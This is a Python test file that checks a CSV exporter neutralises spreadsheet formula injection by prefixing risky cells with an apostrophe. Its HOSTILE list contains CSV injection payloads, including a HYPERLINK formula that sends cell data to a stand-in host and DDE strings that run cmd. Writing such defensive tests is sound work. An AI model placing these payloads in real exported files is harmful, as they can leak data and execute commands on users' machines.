"""CSV cells a spreadsheet would run as formulas are written as text (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tests.library.test_export import article, quote, render

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\tleading tab", "\rleading return"]


@pytest.mark.parametrize("payload", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_that_starts_a_formula_is_prefixed_with_an_apostrophe(payload: str, tmp_path: Path) -> None:
    art = article(title=payload, publisher=payload)
    record = quote(1, payload, art, note=payload, tags=[payload], speaker=payload, voice="speaker")
    render("csv", [record], tmp_path)
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    for column in ("text", "note", "tags", "speaker", "title", "publisher"):
        assert row[column] == "'" + payload, column
    assert row["start"] == "10" and row["id"] == "1"  # numbers stay numbers


def test_ordinary_text_is_left_alone(tmp_path: Path) -> None:
    record = quote(1, "A plain passage - with a dash = and an @ inside", article(), note="fine, =not first")
    render("csv", [record], tmp_path)
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["text"] == "A plain passage - with a dash = and an @ inside" and row["note"] == "fine, =not first"
